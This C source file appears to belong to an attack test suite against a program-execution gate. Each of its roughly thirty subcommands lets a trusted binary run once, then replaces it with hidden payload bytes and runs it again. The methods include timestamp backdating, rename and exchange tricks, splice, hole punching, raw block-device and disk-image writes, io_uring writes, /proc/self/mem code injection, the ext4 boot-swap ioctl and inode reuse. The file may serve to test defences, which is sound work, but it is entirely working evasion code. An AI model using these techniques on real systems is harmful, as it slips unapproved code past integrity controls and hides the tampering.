/*
 * A good program is run first, so that it is known and remembered; then it gets other bytes, by one way after another; then it is run
 * again. VICTIM is a copy of the good program, OTHER holds the bytes of the payload, hidden; they are of the same size.
 */
#include "attack.h"
#include <linux/falloc.h>
#include <linux/fiemap.h>
#include <linux/fs.h>
#include <linux/aio_abi.h>
#include <linux/io_uring.h>
#include <linux/loop.h>
#include <stdatomic.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/sendfile.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>

struct change {
  const char *victim;
  char *content, other[4200]; /* the payload's bytes, and the name they get where a file of them is wanted */
  size_t bytes;
};

static struct change begin(char **arguments) {
  struct change change = {.victim = arguments[0]};
  if (run_program(change.victim) != 0) {
    fprintf(stderr, "%s: the good program does not run\n", change.victim);
    exit(1);
  }
  change.content = whole(arguments[1], &change.bytes);
  snprintf(change.other, sizeof change.other, "%s.new", change.victim);
  return change;
}

/* The payload as a file. Open from before it has any bytes: there is no opening to judge. */
static int other_file(const struct change *change) {
  int file = check(open(change->other, O_CREAT | O_EXCL | O_RDWR | O_CLOEXEC, 0755), change->other);
  put(file, change->content, change->bytes);
  check((int)lseek(file, 0, SEEK_SET), change->other);
  return file;
}

/* Tries a few times: the first answer after the change may come from another path than the second. */
static int again(const char *victim) {
  int status = 0;
  for (int try = 0; try < 3; try++) {
    status = run_program(victim);
    usleep(20000);
  }
  return status == 0 ? 0 : 1;
}

static int writer(const char *victim) { return check(open(victim, O_RDWR | O_CLOEXEC), victim); }

static int in_place(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  int file = writer(change.victim);
  put(file, change.content, change.bytes);
  close(file);
  return again(change.victim);
}

static int in_place_dated_back(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  struct stat before;
  int file = writer(change.victim);
  check(fstat(file, &before), change.victim);
  put(file, change.content, change.bytes);
  struct timespec times[2] = {before.st_atim, before.st_mtim};
  check(futimens(file, times), "futimens");
  close(file);
  return again(change.victim);
}

static int truncated(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  int file = check(open(change.victim, O_WRONLY | O_TRUNC | O_CLOEXEC), change.victim);
  put(file, change.content, change.bytes);
  close(file);
  return again(change.victim);
}

static int by_map(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  int file = writer(change.victim);
  char *memory = mmap(NULL, change.bytes, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
  if (memory == MAP_FAILED) fail("mmap");
  memcpy(memory, change.content, change.bytes);
  munmap(memory, change.bytes);
  close(file);
  return again(change.victim);
}

/* from-data FILE OTHER: text that is opened until nobody asks about it any more, and then becomes OTHER without a write. */
static void become(char **arguments) {
  size_t bytes;
  char *content = whole(arguments[1], &bytes);
  int file = check(open(arguments[0], O_CREAT | O_EXCL | O_RDWR | O_CLOEXEC, 0755), arguments[0]);
  char *text = malloc(bytes);
  if (text == NULL) fail("memory");
  memset(text, 'x', bytes);
  put(file, text, bytes);
  close(file);
  for (int time = 0; time < 10; time++) {
    close(check(open(arguments[0], O_RDONLY | O_CLOEXEC), arguments[0]));
    usleep(20000);
  }
  file = writer(arguments[0]);
  char *memory = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
  if (memory == MAP_FAILED) fail("mmap");
  memcpy(memory, content, bytes);
  munmap(memory, bytes);
  close(file);
}

static int from_data(int count, char **arguments) {
  (void)count;
  become(arguments);
  return again(arguments[0]);
}

static int library_from_data(int count, char **arguments) {
  (void)count;
  become(arguments);
  return 0;
}

static int renamed(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  close(other_file(&change));
  check(rename(change.other, change.victim), "rename");
  return again(change.victim);
}

static int exchanged(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  close(other_file(&change));
  check((int)syscall(SYS_renameat2, AT_FDCWD, change.other, AT_FDCWD, change.victim, RENAME_EXCHANGE), "exchange");
  return again(change.victim);
}

static int linked(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  close(other_file(&change));
  check(unlink(change.victim), "unlink");
  check(link(change.other, change.victim), "link");
  return again(change.victim);
}

static int symbolic(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  close(other_file(&change));
  check(unlink(change.victim), "unlink");
  check(symlink(change.other, change.victim), "symlink");
  return again(change.victim);
}

/* By another name of the same file. */
static int other_name(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  char name[4200];
  snprintf(name, sizeof name, "%s.name", change.victim);
  check(link(change.victim, name), "link");
  int file = writer(name);
  put(file, change.content, change.bytes);
  close(file);
  return again(change.victim);
}

static int copied_in_kernel(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  int from = other_file(&change), file = writer(change.victim);
  for (size_t left = change.bytes; left > 0;) {
    ssize_t copied = copy_file_range(from, NULL, file, NULL, left, 0);
    if (copied <= 0) fail("copy_file_range");
    left -= (size_t)copied;
  }
  close(file);
  return again(change.victim);
}

static int spliced(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  int from = other_file(&change), file = writer(change.victim), ends[2];
  check(pipe(ends), "pipe");
  for (size_t left = change.bytes; left > 0;) {
    ssize_t moved = splice(from, NULL, ends[1], NULL, left, 0);
    if (moved <= 0 || splice(ends[0], NULL, file, NULL, (size_t)moved, 0) != moved) fail("splice");
    left -= (size_t)moved;
  }
  close(file);
  return again(change.victim);
}

static int spliced_from_memory(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  int file = writer(change.victim), ends[2];
  check(pipe(ends), "pipe");
  for (size_t done = 0; done < change.bytes;) {
    struct iovec part = {change.content + done, change.bytes - done};
    ssize_t moved = vmsplice(ends[1], &part, 1, 0);
    if (moved <= 0 || splice(ends[0], NULL, file, NULL, (size_t)moved, 0) != moved) fail("vmsplice");
    done += (size_t)moved;
  }
  close(file);
  return again(change.victim);
}

/* Holes: the old bytes go without a write, then new ones come. */
static int punched(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  int file = writer(change.victim);
  check(fallocate(file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, (off_t)change.bytes), "punch");
  put(file, change.content, change.bytes);
  close(file);
  return again(change.victim);
}

/* Shifts a part of the file into place without a write: the other program is appended first, then the good one is cut out before it. */
static int collapsed(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  int file = writer(change.victim);
  off_t end = lseek(file, 0, SEEK_END), start = (end + 4095) & ~(off_t)4095;
  check(ftruncate(file, start), "ftruncate");
  check((int)lseek(file, start, SEEK_SET), "lseek");
  put(file, change.content, change.bytes);
  check(fallocate(file, FALLOC_FL_COLLAPSE_RANGE, 0, start), "collapse");
  close(file);
  return again(change.victim);
}

/* Straight to the disk, past the page cache. */
static int direct(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  int file = check(open(change.victim, O_WRONLY | O_DIRECT | O_CLOEXEC), change.victim);
  size_t rounded = (change.bytes + 4095) & ~(size_t)4095;
  char *aligned = aligned_alloc(4096, rounded);
  if (aligned == NULL) fail("memory");
  memset(aligned, 0, rounded);
  memcpy(aligned, change.content, change.bytes);
  if (write(file, aligned, rounded) != (ssize_t)rounded) fail("direct write");
  check(ftruncate(file, (off_t)change.bytes), "ftruncate");
  close(file);
  return again(change.victim);
}

/* device VICTIM OTHER DEVICE: under the file system, on its block device: no file is opened for writing. */
static int on_device(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  int good = check(open(change.victim, O_RDONLY | O_CLOEXEC), change.victim);
  sync();
  struct {
    struct fiemap map;
    struct fiemap_extent extent;
  } where = {.map = {.fm_length = change.bytes, .fm_extent_count = 1}};
  check(ioctl(good, FS_IOC_FIEMAP, &where), "place on the disk");
  int device = check(open(arguments[2], O_WRONLY | O_CLOEXEC | O_SYNC), arguments[2]);
  /* A small program made in one go lies in one piece. */
  if (where.map.fm_mapped_extents != 1 || where.extent.fe_length < change.bytes) fail("the first piece");
  if (pwrite(device, change.content, change.bytes, (off_t)where.extent.fe_physical) != (ssize_t)change.bytes) fail("device");
  fsync(device);
  close(device);
  posix_fadvise(good, 0, 0, POSIX_FADV_DONTNEED);
  close(good);
  return again(change.victim);
}

/* Shares the blocks of the other file (file systems that can). */
static int shared_blocks(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  int from = other_file(&change), file = writer(change.victim);
  check(ioctl(file, FICLONE, from), "FICLONE");
  close(file);
  return again(change.victim);
}

struct rings {
  int ring;
  struct io_uring_params params;
  char *submissions;
  struct io_uring_sqe *entries;
};

static struct rings open_rings(void) {
  struct rings rings = {0};
  rings.ring = check((int)syscall(SYS_io_uring_setup, 4, &rings.params), "io_uring_setup");
  size_t bytes = rings.params.sq_off.array + rings.params.sq_entries * sizeof(unsigned);
  size_t answers = rings.params.cq_off.cqes + rings.params.cq_entries * sizeof(struct io_uring_cqe);
  if (answers > bytes) bytes = answers;
  rings.submissions = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, rings.ring, IORING_OFF_SQ_RING);
  rings.entries = mmap(NULL, rings.params.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
                       rings.ring, IORING_OFF_SQES);
  if (rings.submissions == MAP_FAILED || (void *)rings.entries == MAP_FAILED) fail("rings");
  return rings;
}

/* One request, waited for. Its result, or -errno. */
static int ask(struct rings *rings, const struct io_uring_sqe *request) {
  _Atomic unsigned *tail = (_Atomic unsigned *)(void *)(rings->submissions + rings->params.sq_off.tail);
  unsigned mask = *(unsigned *)(void *)(rings->submissions + rings->params.sq_off.ring_mask), at = atomic_load(tail) & mask;
  rings->entries[at] = *request;
  ((unsigned *)(void *)(rings->submissions + rings->params.sq_off.array))[at] = at;
  atomic_fetch_add(tail, 1);
  check((int)syscall(SYS_io_uring_enter, rings->ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0), "io_uring_enter");
  _Atomic unsigned *head = (_Atomic unsigned *)(void *)(rings->submissions + rings->params.cq_off.head);
  unsigned answer_mask = *(unsigned *)(void *)(rings->submissions + rings->params.cq_off.ring_mask);
  struct io_uring_cqe *answers = (struct io_uring_cqe *)(void *)(rings->submissions + rings->params.cq_off.cqes);
  int result = answers[atomic_load(head) & answer_mask].res;
  atomic_fetch_add(head, 1);
  return result;
}

static int by_ring(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  struct rings rings = open_rings();
  struct io_uring_sqe request = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)change.victim, .open_flags = O_RDWR | O_CLOEXEC};
  int file = ask(&rings, &request);
  if (file < 0) return 1;
  request = (struct io_uring_sqe){.opcode = IORING_OP_WRITE, .fd = file, .addr = (uintptr_t)change.content, .len = (unsigned)change.bytes};
  if (ask(&rings, &request) != (int)change.bytes) return 1;
  close(file);
  return again(change.victim);
}

/* ring-start FILE: opened by the ring, started by its descriptor. */
static int ring_start(int count, char **arguments) {
  (void)count;
  struct rings rings = open_rings();
  struct io_uring_sqe request = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)arguments[0], .open_flags = O_RDONLY | O_CLOEXEC};
  int file = ask(&rings, &request);
  if (file < 0) {
    errno = -file;
    fail(arguments[0]);
  }
  char *words[] = {arguments[0], NULL};
  syscall(SYS_execveat, file, "", words, environ, AT_EMPTY_PATH);
  fail("execveat");
}

__attribute__((noinline, aligned(16))) static void target(void) {
  __asm__ volatile(".skip 256, 0x90"); /* room for the code that is put here */
}

/* ring-memory CODE: the ring opens this process's own memory as a file and writes to it. */
static int ring_memory(int count, char **arguments) {
  (void)count;
  size_t bytes;
  char *content = whole(arguments[0], &bytes);
  struct rings rings = open_rings();
  struct io_uring_sqe request = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)"/proc/self/mem", .open_flags = O_RDWR | O_CLOEXEC};
  int memory = ask(&rings, &request);
  if (memory < 0) {
    errno = -memory;
    fail("/proc/self/mem");
  }
  request = (struct io_uring_sqe){.opcode = IORING_OP_WRITE, .fd = memory, .addr = (uintptr_t)content, .len = (unsigned)bytes, .off = (uintptr_t)target};
  if (ask(&rings, &request) != (int)bytes) fail("write");
  target();
  return 1;
}

/* Swaps the blocks of two files by way of the place where ext4 keeps a boot loader. */
static int swapped_by_boot(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  unsigned long swap_boot = _IO('f', 17); /* EXT4_IOC_SWAP_BOOT */
  int other = other_file(&change), file = writer(change.victim);
  check(fsync(other), "fsync");
  check(ioctl(other, swap_boot), "swap with the boot loader");
  check(ioctl(file, swap_boot), "swap with the boot loader");
  close(file);
  return again(change.victim);
}

/* By the older kind of asynchronous writing. */
static int asynchronous(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  aio_context_t context = 0;
  check((int)syscall(SYS_io_setup, 1, &context), "io_setup");
  int file = writer(change.victim);
  struct iocb request = {.aio_fildes = (uint32_t)file, .aio_lio_opcode = IOCB_CMD_PWRITE, .aio_buf = (uintptr_t)change.content, .aio_nbytes = change.bytes};
  struct iocb *requests[] = {&request};
  struct io_event done;
  check((int)syscall(SYS_io_submit, context, 1, requests), "io_submit");
  check((int)syscall(SYS_io_getevents, context, 1, 1, &done, NULL), "io_getevents");
  close(file);
  return again(change.victim);
}

static int loop_over(const char *image, const char *folder) {
  char node[4200];
  snprintf(node, sizeof node, "%s/loop-control", folder);
  check(mknod(node, S_IFCHR | 0600, makedev(10, 237)), node);
  int control = check(open(node, O_RDWR | O_CLOEXEC), node);
  int number = check(ioctl(control, LOOP_CTL_GET_FREE), "a free loop device");
  snprintf(node, sizeof node, "%s/loop", folder);
  check(mknod(node, S_IFBLK | 0600, makedev(7, (unsigned)number)), node);
  int loop = check(open(node, O_RDWR | O_CLOEXEC), node);
  /* It goes with its last user, whatever becomes of this program. */
  struct loop_config config = {.fd = (uint32_t)check(open(image, O_RDWR | O_CLOEXEC), image), .info = {.lo_flags = LO_FLAGS_AUTOCLEAR}};
  check(ioctl(loop, LOOP_CONFIGURE, &config), "LOOP_CONFIGURE");
  return loop;
}

/* backing-file GOOD OTHER IMAGE FOLDER: the file that a mounted disk image lies in is written to, as any file is. */
static int backing_file(int count, char **arguments) {
  (void)count;
  char victim[4200], device[4200];
  size_t bytes;
  char *good = whole(arguments[0], &bytes);
  int loop = loop_over(arguments[2], arguments[3]);
  snprintf(device, sizeof device, "%s/loop", arguments[3]);
  snprintf(victim, sizeof victim, "%s/mounted", arguments[3]);
  check(mkdir(victim, 0755), victim);
  check(mount(device, victim, "ext4", 0, NULL), device);
  close(loop);
  snprintf(victim, sizeof victim, "%s/mounted/victim", arguments[3]);
  int file = check(open(victim, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0755), victim);
  put(file, good, bytes);
  check(fsync(file), "fsync");
  close(file);
  sleep(1); /* until the new file system is under the gate */
  char *changed[] = {victim, arguments[1]};
  struct change change = begin(changed);
  file = check(open(victim, O_RDONLY | O_CLOEXEC), victim);
  struct {
    struct fiemap map;
    struct fiemap_extent extent;
  } where = {.map = {.fm_length = change.bytes, .fm_extent_count = 1}};
  check(ioctl(file, FS_IOC_FIEMAP, &where), "place in the image");
  int image = check(open(arguments[2], O_WRONLY | O_CLOEXEC), arguments[2]);
  if (pwrite(image, change.content, change.bytes, (off_t)where.extent.fe_physical) != (ssize_t)change.bytes) fail("image");
  check(fsync(image), "fsync");
  close(image);
  if (posix_fadvise(file, 0, 0, POSIX_FADV_DONTNEED) != 0) fail("posix_fadvise");
  close(file);
  return again(victim);
}

/* invisible VICTIM OTHER: XFS opens a file by its handle so that writing leaves its times as they were. */
static int invisible(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  struct handle_request {
    uint32_t fd;
    void *path;
    uint32_t open_flags;
    void *in;
    uint32_t in_bytes;
    void *out;
    uint32_t *out_bytes;
  };
  char handle[64];
  uint32_t bytes = sizeof handle;
  struct handle_request request = {.path = (void *)change.victim, .out = handle, .out_bytes = &bytes};
  int folder = check(open("/second", O_RDONLY | O_DIRECTORY | O_CLOEXEC), "/second");
  check(ioctl(folder, _IOWR('X', 105, struct handle_request), &request), "XFS_IOC_PATH_TO_HANDLE");
  request = (struct handle_request){.open_flags = O_RDWR, .in = handle, .in_bytes = bytes};
  int file = check(ioctl(folder, _IOWR('X', 107, struct handle_request), &request), "XFS_IOC_OPEN_BY_HANDLE");
  put(file, change.content, change.bytes);
  close(file);
  return again(change.victim);
}

/* The good one goes, and the other is made until it has the same inode number. */
static int inode_again(int count, char **arguments) {
  (void)count;
  struct change change = begin(arguments);
  struct stat before, now;
  check(stat(change.victim, &before), change.victim);
  check(unlink(change.victim), "unlink");
  for (int try = 0; try < 200; try++) {
    int file = check(open(change.victim, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0755), change.victim);
    put(file, change.content, change.bytes);
    check(fstat(file, &now), change.victim);
    close(file);
    if (now.st_ino == before.st_ino) return again(change.victim);
    char aside[4200];
    snprintf(aside, sizeof aside, "%s.%d", change.victim, try);
    check(rename(change.victim, aside), "rename");
    usleep(5000);
  }
  fprintf(stderr, "the inode number did not come again\n");
  return 1;
}

/* held-open VICTIM OTHER: the descriptor for writing was there before the file was known, and is used after. */
static int held_open(int count, char **arguments) {
  (void)count;
  size_t bytes;
  char *content = whole(arguments[1], &bytes);
  int file = writer(arguments[0]);
  for (int try = 0; try < 3; try++) run_program(arguments[0]);
  if (pwrite(file, content, bytes, 0) != (ssize_t)bytes) fail("write");
  close(file);
  return again(arguments[0]);
}

/* grown VICTIM OTHER: a script goes on being read while it runs. */
static int grown_script(int count, char **arguments) {
  (void)count;
  pid_t child = check(fork(), "fork");
  if (child == 0) {
    execl(arguments[0], arguments[0], NULL);
    _exit(127);
  }
  usleep(300000);
  size_t bytes;
  char *content = whole(arguments[1], &bytes);
  int file = check(open(arguments[0], O_WRONLY | O_APPEND | O_CLOEXEC), arguments[0]);
  put(file, content, bytes);
  close(file);
  int status = 0;
  waitpid(child, &status, 0);
  return status == 0 ? 0 : 1;
}

int main(int argc, char **argv) {
  static const struct verb verbs[] = {
      {"in-place", in_place, 2}, {"dated-back", in_place_dated_back, 2}, {"truncated", truncated, 2}, {"map", by_map, 2},
      {"renamed", renamed, 2},   {"exchanged", exchanged, 2},            {"linked", linked, 2},       {"symbolic", symbolic, 2},
      {"other-name", other_name, 2}, {"copied", copied_in_kernel, 2},    {"spliced", spliced, 2},     {"spliced-from-memory", spliced_from_memory, 2},
      {"punched", punched, 2},   {"collapsed", collapsed, 2},            {"direct", direct, 2},       {"device", on_device, 3},
      {"shared-blocks", shared_blocks, 2}, {"ring", by_ring, 2},         {"ring-start", ring_start, 1}, {"held-open", held_open, 2}, {"inode-again", inode_again, 2},
      {"grown-script", grown_script, 2}, {"from-data", from_data, 2},    {"library-from-data", library_from_data, 2},
      {"ring-memory", ring_memory, 1}, {"swapped-by-boot", swapped_by_boot, 2}, {"invisible", invisible, 2},
      {"asynchronous", asynchronous, 2}, {"backing-file", backing_file, 4},
  };
  return choose(verbs, sizeof verbs / sizeof *verbs, argc, argv);
}
